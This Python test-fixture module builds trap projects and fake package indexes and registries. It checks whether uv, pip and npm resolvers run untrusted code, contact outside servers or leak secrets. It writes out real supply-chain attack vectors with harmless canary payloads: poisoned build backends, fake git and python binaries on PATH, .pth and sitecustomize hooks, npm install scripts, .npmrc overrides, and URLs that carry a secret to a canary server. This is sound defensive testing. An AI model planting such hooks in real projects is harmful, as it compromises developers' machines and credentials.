"""Apps and index pages that try to run code, to reach another server or to read a secret when stager looks at them.

Each trap tells by a canary: code makes a folder, whose name holds the secret if it could be read; a connection is seen by a
server. `springs` says that the resolver itself, run in the app's folder as a developer runs it, is caught.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from builders import TarEntry, compress, make_npm_tarball, make_tar, make_wheel
from package_index import integrity, page, put_files
from servers import Server, redirect, serve

SECRET = "s3cr3t-of-the-caller"
Files = Mapping[str, str | bytes]


@dataclass(frozen=True)
class Canary:
    """What a sprung trap leaves behind."""

    folder: Path
    server: Server

    @property
    def code(self) -> str:
        """Python that springs."""
        where = f"{str(self.folder)!r} + '/sprung-' + os.environ.get('CANARY_SECRET', 'without')"
        return f"import os\nos.makedirs({where}, exist_ok=True)\n"

    @property
    def shell(self) -> str:
        """A shell script that springs."""
        return f'#!/bin/sh\nmkdir -p "{self.folder}/sprung-$CANARY_SECRET"\nexit 1\n'

    @property
    def javascript(self) -> str:
        """A program for Node that springs."""
        return f"require('fs').mkdirSync({str(self.folder)!r} + '/sprung-' + process.env.CANARY_SECRET);\n"

    def sprung(self) -> list[str]:
        """What happened: folders made, requests seen."""
        folders = sorted(path.name for path in self.folder.iterdir()) if self.folder.is_dir() else []
        return [*folders, *self.server.paths()]


@dataclass(frozen=True)
class Trap:
    """One app. `refused` is the error that `lock` gives, empty where there is a lock to be made."""

    name: str
    files: Callable[[Canary], Files]
    refused: str = ""
    springs: bool = True
    """Whether the resolver itself is caught."""
    asked: bool = False
    """Whether a lock takes that the code runs, which it does in the sandbox alone."""

    def __str__(self) -> str:
        return self.name

    def lay(self, folder: Path, canary: Canary) -> Path:
        """Write the app; shell scripts become executable."""
        for name, content in self.files(canary).items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            data = content.encode() if isinstance(content, str) else content
            path.write_bytes(data)
            path.chmod(0o755 if data.startswith(b"#!") else 0o644)
        return folder


# --- Python ----------------------------------------------------------------------------------------------------

BACKEND = """\
def get_requires_for_build_wheel(settings=None): return []
get_requires_for_build_editable = get_requires_for_build_wheel
def prepare_metadata_for_build_wheel(folder, settings=None):
    os.mkdir(folder + "/NAME-3.dist-info")
    with open(folder + "/NAME-3.dist-info/METADATA", "w") as file:
        file.write("Metadata-Version: 2.2\\nName: NAME\\nVersion: 3\\n")
    return "NAME-3.dist-info"
prepare_metadata_for_build_editable = prepare_metadata_for_build_wheel
"""
SYSTEM = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'


def backend(canary: Canary, name: str) -> str:
    """A build backend that springs when it is imported, and then does its work."""
    return canary.code + BACKEND.replace("NAME", name)


def project(name: str, *lines: str, dynamic: str = "", system: bool = True) -> str:
    """A pyproject.toml whose backend is beside it; `lines` are requirements or, with `[` in front, tables."""
    wanted = "".join(f'"{line}", ' for line in lines if not line.startswith("["))
    tables = "\n".join(line for line in lines if line.startswith("["))
    kind = f'dynamic = ["{dynamic}"]' if dynamic else ""
    version = "" if dynamic == "version" else 'version = "1"'
    asked = "" if dynamic == "dependencies" else f"dependencies = [{wanted}]"
    head = f'[project]\nname = "{name}"\n{version}\nrequires-python = ">=3.11"\n{kind}\n{asked}\n'
    return head + (SYSTEM if system else "") + tables + "\n"


def sdist(canary: Canary, name: str) -> bytes:
    """An archive of sources whose backend springs."""
    files = {"pyproject.toml": project(name, dynamic="dependencies"), "backend.py": backend(canary, name)}
    files["PKG-INFO"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: 3\n"
    return compress(make_tar([TarEntry(f"{name}-3/{path}", text.encode()) for path, text in files.items()]), "gz")


def index(server: Server, canary: Canary) -> str:
    """Lay out an index with honest and other packages on a server; its URL."""
    setuptools = {
        "setuptools/__init__.py": b"def setup(**_): pass\n",
        "setuptools/build_meta.py": b"import os\nexec(open('setup.py').read())\n"
        + BACKEND.replace("NAME", "lib").encode(),
    }
    setuptools["setuptools/build_meta.py"] += (
        b"class __legacy__: pass\n__legacy__ = __import__('sys').modules[__name__]\n"
    )
    wheels = {
        "good": make_wheel("good", "1.0", {"good.py": b""}),
        "setuptools": make_wheel("setuptools", "99.0", setuptools),
    }
    for name, data in wheels.items():
        file = f"{name}-{'99.0' if name == 'setuptools' else '1.0'}-py3-none-any.whl"
        put_files(server, name, (file, data))
    poisoned = sdist(canary, "onlysdist")
    put_files(server, "onlysdist", ("onlysdist-3.tar.gz", poisoned))
    server.routes["/simple/moved/"] = redirect(f"{canary.server.url}/moved/")
    elsewhere = page(("elsewhere-1.0-py3-none-any.whl", b"x"), base=f"{canary.server.url}/files/")
    server.routes["/simple/elsewhere/"] = serve(elsewhere, "text/html")
    return f"{server.url}/simple"


def _wheel_asking(requirement: str) -> bytes:
    return make_wheel("asking", "1.0", {"asking.py": b""}, metadata=f"Requires-Dist: {requirement}\n")


def _lib(canary: Canary, dynamic: str = "version", name: str = "lib") -> dict[str, str]:
    return {"lib/pyproject.toml": project(name, dynamic=dynamic), "lib/backend.py": backend(canary, name)}


def _setup(canary: Canary) -> dict[str, str]:
    return {"lib/setup.py": canary.code + "from setuptools import setup\nsetup(name='lib', version='3')\n"}


WORKSPACE = '[tool.uv.workspace]\nmembers = ["l*"]\n[tool.uv.sources]\nlib = {workspace = true}'
UV = [
    Trap(
        "root-version",
        lambda c: {"pyproject.toml": project("app", "good", dynamic="version"), "backend.py": backend(c, "app")},
    ),
    Trap(
        "root-dependencies",
        lambda c: {"pyproject.toml": project("app", dynamic="dependencies"), "backend.py": backend(c, "app")},
        asked=True,
    ),
    Trap("member-version", lambda c: {"pyproject.toml": project("app", "lib", WORKSPACE, system=False), **_lib(c)}),
    Trap(
        "member-dependencies",
        lambda c: {"pyproject.toml": project("app", "lib", WORKSPACE, system=False), **_lib(c, "dependencies")},
        asked=True,
    ),
    Trap(
        "path-version",
        lambda c: {"pyproject.toml": project("app", "lib", '[tool.uv.sources]\nlib = {path = "lib"}'), **_lib(c)},
    ),
    Trap(
        "path-editable",
        lambda c: {
            "pyproject.toml": project("app", "lib", '[tool.uv.sources]\nlib = {path = "lib", editable = true}'),
            **_lib(c, "dependencies"),
        },
        asked=True,
    ),
    Trap(
        "path-setup-py",
        lambda c: {"pyproject.toml": project("app", "lib", '[tool.uv.sources]\nlib = {path = "lib"}'), **_setup(c)},
        "NeedsBuild",
    ),
    Trap(
        "path-sdist",
        lambda c: {
            "pyproject.toml": project("app", "lib", '[tool.uv.sources]\nlib = {path = "lib-3.tar.gz"}'),
            "lib-3.tar.gz": sdist(c, "lib"),
        },
        "NeedsBuild",
    ),
    Trap("index-sdist", lambda _: {"pyproject.toml": project("app", "onlysdist")}, asked=True),
    Trap(
        "index-sdist-in-group",
        lambda _: {"pyproject.toml": project("app", '[dependency-groups]\ndev = ["onlysdist"]')},
        asked=True,
    ),
    Trap(
        "git-source",
        lambda c: {
            "pyproject.toml": project("app", "lib", f'[tool.uv.sources]\nlib = {{git = "{c.server.url}/lib"}}'),
            "git": c.shell,
        },
        "NeedsBuild",
    ),
    Trap(
        "git-requirement",
        lambda c: {"pyproject.toml": project("app", f"lib @ git+{c.server.url}/lib"), "git": c.shell},
        "NeedsBuild",
    ),
    Trap(
        "url-sdist", lambda c: {"pyproject.toml": project("app", f"lib @ {c.server.url}/lib-3.tar.gz")}, "BadManifest"
    ),
    Trap(
        "url-wheel",
        lambda c: {"pyproject.toml": project("app", f"lib @ {c.server.url}/lib-3-py3-none-any.whl")},
        "BadManifest",
    ),
    Trap(
        "url-variable",
        lambda c: {"pyproject.toml": project("app", f"lib @ {c.server.url}/${{CANARY_SECRET}}/lib-3-py3-none-any.whl")},
        "BadManifest",
    ),
    Trap(
        "source-url",
        lambda c: {
            "pyproject.toml": project(
                "app", "lib", f'[tool.uv.sources]\nlib = {{url = "{c.server.url}/lib-3-py3-none-any.whl"}}'
            )
        },
        "BadManifest",
    ),
    Trap(
        "wheel-asks-for-folder",
        lambda c: {
            "pyproject.toml": project(
                "app", "asking", '[tool.uv.sources]\nasking = {path = "asking-1.0-py3-none-any.whl"}'
            ),
            "asking-1.0-py3-none-any.whl": _wheel_asking(f"lib @ file://{c.folder.parent}/app/lib"),
            **_setup(c),
        },
        "*",
    ),
    Trap(
        "wheel-asks-for-repository",
        lambda c: {
            "pyproject.toml": project(
                "app", "asking", '[tool.uv.sources]\nasking = {path = "asking-1.0-py3-none-any.whl"}'
            ),
            "asking-1.0-py3-none-any.whl": _wheel_asking(f"lib @ git+{c.server.url}/lib"),
            "git": c.shell,
        },
        "*",
    ),
    Trap(
        "tool-uv-index",
        lambda c: {"pyproject.toml": project("app", "good", f'[[tool.uv.index]]\nurl = "{c.server.url}/"')},
        "BadManifest",
    ),
    Trap(
        "tool-uv-extra-index",
        lambda c: {"pyproject.toml": project("app", "good", f'[tool.uv]\nextra-index-url = ["{c.server.url}/"]')},
        "BadManifest",
    ),
    Trap(
        "tool-uv-find-links",
        lambda c: {"pyproject.toml": project("app", "good", f'[tool.uv]\nfind-links = ["{c.server.url}/"]')},
        "BadManifest",
    ),
    Trap(
        "uv-toml",
        lambda c: {"pyproject.toml": project("app", "good"), "uv.toml": f'[[index]]\nurl = "{c.server.url}/"\n'},
        "BadManifest",
    ),
    Trap("index-redirects", lambda _: {"pyproject.toml": project("app", "moved")}, "LockFailed"),
    Trap("index-files-elsewhere", lambda _: {"pyproject.toml": project("app", "elsewhere")}, "LockFailed"),
    Trap(
        "keyring-on-path",
        lambda c: {
            "pyproject.toml": project("app", "good", '[tool.uv]\nkeyring-provider = "subprocess"'),
            **dict.fromkeys(("keyring", "uv", "git", "python", "python3", "bin/python"), c.shell),
            ".python-version": "./python\n",
        },
        springs=False,
    ),
    Trap(
        "site-hooks",
        lambda c: {
            "pyproject.toml": project("app", "good"),
            **dict.fromkeys(("sitecustomize.py", "usercustomize.py", "conftest.py", "hatch_build.py"), c.code),
            "evil.pth": "import os; " + c.code.splitlines()[1] + "\n",
            "poetry.toml": '[repositories.x]\nurl = "http://127.0.0.1:1/"\n',
            "pip.conf": f"[global]\nindex-url = {c.server.url}/\n",
            ".env": f"UV_INDEX_URL={c.server.url}/\n",
        },
        springs=False,
    ),
]
REQUIREMENTS = [
    Trap("editable-setup-py", lambda c: {"requirements.txt": "-e ./lib\n", **_setup(c)}, "NeedsBuild"),
    Trap("folder-setup-py", lambda c: {"requirements.txt": "./lib\n", **_setup(c)}, "NeedsBuild"),
    Trap(
        "editable-itself", lambda c: {"requirements.txt": "-e .\n", "setup.py": _setup(c)["lib/setup.py"]}, "NeedsBuild"
    ),
    Trap(
        "setup-cfg-attribute",
        lambda c: {
            "requirements.txt": "-e .\n",
            "setup.cfg": "[metadata]\nname = lib\nversion = attr: lib.__version__\n",
            "setup.py": _setup(c)["lib/setup.py"],
            "lib/__init__.py": c.code,
        },
        "NeedsBuild",
    ),
    Trap("folder-version", lambda c: {"requirements.txt": "./lib\n", **_lib(c)}),
    Trap("folder-dependencies", lambda c: {"requirements.txt": "lib @ ./lib\n", **_lib(c, "dependencies")}, asked=True),
    Trap("sdist-of-the-index", lambda _: {"requirements.txt": "onlysdist\n"}, asked=True),
    Trap(
        "sdist-in-the-app",
        lambda c: {"requirements.txt": "./lib-3.tar.gz\n", "lib-3.tar.gz": sdist(c, "lib")},
        "NeedsBuild",
    ),
    Trap("sdist-by-url", lambda c: {"requirements.txt": f"{c.server.url}/lib-3.tar.gz\n"}, "BadManifest"),
    Trap(
        "git-by-url", lambda c: {"requirements.txt": f"git+{c.server.url}/lib#egg=lib\n", "git": c.shell}, "NeedsBuild"
    ),
    Trap(
        "git-file",
        lambda c: {"requirements.txt": f"git+file://{c.folder}/repository#egg=lib\n", "git": c.shell},
        "NeedsBuild",
    ),
    Trap(
        "git-ssh",
        lambda c: {"requirements.txt": "lib @ git+ssh://git@code.example/lib\n", "git": c.shell},
        "NeedsBuild",
    ),
    Trap(
        "variable",
        lambda c: {"requirements.txt": f"lib @ {c.server.url}/${{CANARY_SECRET}}/lib-3-py3-none-any.whl\n"},
        "BadManifest",
    ),
    Trap("extra-index", lambda c: {"requirements.txt": f"--extra-index-url {c.server.url}/\ngood\n"}, "BadManifest"),
    Trap("index-url", lambda c: {"requirements.txt": f"-i {c.server.url}/\ngood\n"}, "BadManifest", springs=False),
    Trap("find-links", lambda c: {"requirements.txt": f"--find-links {c.server.url}/\ngood\n"}, "BadManifest"),
    Trap(
        "find-links-folder",
        lambda c: {"requirements.txt": "-f ./links\ngood\n", "links/good-9.tar.gz": sdist(c, "good")},
        "BadManifest",
    ),
    Trap(
        "index-in-constraints",
        lambda c: {"requirements.txt": "-c c.txt\ngood\n", "c.txt": f"--extra-index-url {c.server.url}/\n"},
        "BadManifest",
        springs=False,
    ),
    Trap("outside", lambda _: {"requirements.txt": "-r ../../outside.txt\ngood\n"}, "BadLock", springs=False),
    Trap("outside-by-web", lambda c: {"requirements.txt": f"-r {c.server.url}/r.txt\ngood\n"}, "BadLock"),
    Trap(
        "pip-settings",
        lambda c: {"requirements.txt": "good\n", "uv.toml": f'[pip]\nextra-index-url = ["{c.server.url}/"]\n'},
        "BadManifest",
    ),
    Trap(
        "project-settings",
        lambda c: {"requirements.txt": "good\n", "pyproject.toml": f'[[tool.uv.index]]\nurl = "{c.server.url}/"\n'},
        "BadManifest",
    ),
]


# --- Node.js ---------------------------------------------------------------------------------------------------


def package(canary: Canary, name: str = "app", **members: object) -> str:
    """A package.json whose every script springs."""
    script = f'mkdir -p "{canary.folder}/sprung-$CANARY_SECRET"'
    hooks = ("preinstall", "install", "postinstall", "prepare", "prepublish", "prepack", "preprepare", "dependencies")
    return json.dumps({"name": name, "version": "1.0.0", "scripts": dict.fromkeys(hooks, script), **members})


def registry(server: Server, canary: Canary) -> None:
    """Lay out a registry for the scope `@trap` on a server: an honest package, and others."""
    packages: dict[str, dict[str, object]] = {
        "good": {"scripts": {"install": f"mkdir -p {canary.folder}/sprung-install"}},
        "asks-for-repository": {"dependencies": {"lib": f"git+{canary.server.url}/lib.git"}},
        "asks-for-ssh": {"dependencies": {"lib": "git+ssh://git@code.example/lib.git"}},
        "asks-for-tarball": {"dependencies": {"lib": f"{canary.server.url}/lib.tgz"}},
        "asks-for-folder": {"dependencies": {"lib": f"file:{canary.folder.parent}/app/lib"}},
    }
    for name, members in packages.items():
        manifest = {"name": f"@trap/{name}", "version": "1.0.0", **members}
        tarball = make_npm_tarball(manifest)
        dist = {"tarball": f"{server.url}/{name}.tgz", "integrity": integrity(tarball)}
        page = {
            "name": f"@trap/{name}",
            "dist-tags": {"latest": "1.0.0"},
            "versions": {"1.0.0": {**manifest, "dist": dist}},
        }
        server.routes[f"/@trap%2f{name}"] = serve(json.dumps(page).encode(), "application/json")
        server.routes[f"/{name}.tgz"] = serve(tarball)
    server.routes["/@trap%2fmoved"] = redirect(f"{canary.server.url}/moved")


GIT: dict[str, Any] = {"dependencies": {"lib": "git+https://code.example/lib.git"}}
GOOD: dict[str, Any] = {"dependencies": {"@trap/good": "^1.0.0"}}
NPM = [
    Trap("own-scripts", lambda c: {"package.json": package(c, **GOOD), "binding.gyp": "{}"}, springs=False),
    Trap(
        "npmrc-git",
        lambda c: {"package.json": package(c, **GIT), ".npmrc": "git=./x.sh\n", "x.sh": c.shell},
        "NeedsBuild",
    ),
    Trap(
        "npmrc-git-of-a-dependency",
        lambda c: {
            "package.json": package(c, dependencies={"@trap/asks-for-ssh": "1.0.0"}),
            ".npmrc": "git=./x.sh\nallow-git=all\n",
            "x.sh": c.shell,
        },
        "NeedsBuild",
    ),
    Trap(
        "npmrc-shells",
        lambda c: {
            "package.json": package(c, **GOOD),
            ".npmrc": "".join(
                f"{key}=./x.sh\n" for key in ("script-shell", "shell", "editor", "viewer", "browser", "init-module")
            )
            + "ignore-scripts=false\nforeground-scripts=true\nprefix=./p\nglobalconfig=./g\nuserconfig=./u\n",
            "x.sh": c.shell,
        },
        springs=False,
    ),
    Trap(
        "npmrc-node-options",
        lambda c: {
            "package.json": package(c, **GOOD),
            ".npmrc": "node-options=--require ./x.js\n",
            "x.js": c.javascript,
        },
        springs=False,
    ),
    Trap(
        "npmrc-certificates",
        lambda c: {
            "package.json": package(c, **GOOD),
            ".npmrc": f"cafile=./ca\nca=x\nstrict-ssl=false\nproxy={c.server.url}\nhttps-proxy={c.server.url}\nnoproxy=*\n",
        },
    ),
    Trap(
        "npmrc-registry",
        lambda c: {
            "package.json": package(c, dependencies={"of-no-scope": "^1.0.0"}),
            ".npmrc": f"registry={c.server.url}/\n",
        },
        "BadManifest",
    ),
    Trap(
        "npmrc-scope",
        lambda c: {"package.json": package(c, **GOOD), ".npmrc": f"@trap:registry={c.server.url}/\n"},
        "BadManifest",
    ),
    Trap(
        "npmrc-variable",
        lambda c: {
            "package.json": package(c, **GOOD),
            ".npmrc": "registry=https://registry.example/${CANARY_SECRET}/\n",
        },
        "BadManifest",
        springs=False,
    ),
    Trap(
        "git-short",
        lambda c: {"package.json": package(c, dependencies={"lib": "owner/lib"})},
        "NeedsBuild",
        springs=False,
    ),
    Trap(
        "git-url",
        lambda c: {"package.json": package(c, dependencies={"lib": f"git+{c.server.url}/lib.git"}), "git": c.shell},
        "NeedsBuild",
    ),
    Trap(
        "git-override",
        lambda c: {
            "package.json": package(c, overrides={"a": {"b": f"git+{c.server.url}/lib.git"}}, **GOOD),
            "git": c.shell,
        },
        "NeedsBuild",
        springs=False,
    ),
    Trap(
        "tarball",
        lambda c: {"package.json": package(c, dependencies={"lib": f"{c.server.url}/lib.tgz"})},
        "BadManifest",
    ),
    Trap(
        "folder",
        lambda c: {"package.json": package(c, dependencies={"lib": "file:lib"}), "lib/package.json": package(c, "lib")},
        springs=False,
    ),
    Trap(
        "folder-outside",
        lambda c: {"package.json": package(c, dependencies={"lib": "file:../lib"})},
        "BadManifest",
        springs=False,
    ),
    Trap(
        "workspaces",
        lambda c: {
            "package.json": package(c, workspaces=["packages/*"]),
            "packages/a/package.json": package(c, "a", **GOOD),
            "packages/a/.npmrc": f"registry={c.server.url}/\n",
        },
        springs=False,
    ),
    Trap(
        "workspace-git",
        lambda c: {"package.json": package(c, workspaces=["w"]), "w/package.json": package(c, "w", **GIT)},
        "NeedsBuild",
        springs=False,
    ),
    Trap(
        "asks-for-repository",
        lambda c: {"package.json": package(c, dependencies={"@trap/asks-for-repository": "1"}), "git": c.shell},
        "NeedsBuild",
    ),
    Trap(
        "asks-for-tarball",
        lambda c: {"package.json": package(c, dependencies={"@trap/asks-for-tarball": "1"})},
        "LockFailed",
    ),
    Trap(
        "asks-for-folder",
        lambda c: {
            "package.json": package(c, dependencies={"@trap/asks-for-folder": "1"}),
            "lib/package.json": package(c, "lib"),
        },
        "*",
        springs=False,
    ),
    Trap("registry-redirects", lambda c: {"package.json": package(c, dependencies={"@trap/moved": "1"})}, "LockFailed"),
    Trap(
        "other-tools",
        lambda c: {
            "package.json": package(c, **GOOD),
            ".yarnrc": "yarn-path ./x.js\n",
            ".yarnrc.yml": "yarnPath: ./x.js\n",
            ".pnpmfile.cjs": c.javascript,
            ".pnp.cjs": c.javascript,
            "x.js": c.javascript,
            **dict.fromkeys(("node", "npm", "git", "sh", "bin/node"), c.shell),
        },
        springs=False,
    ),
]
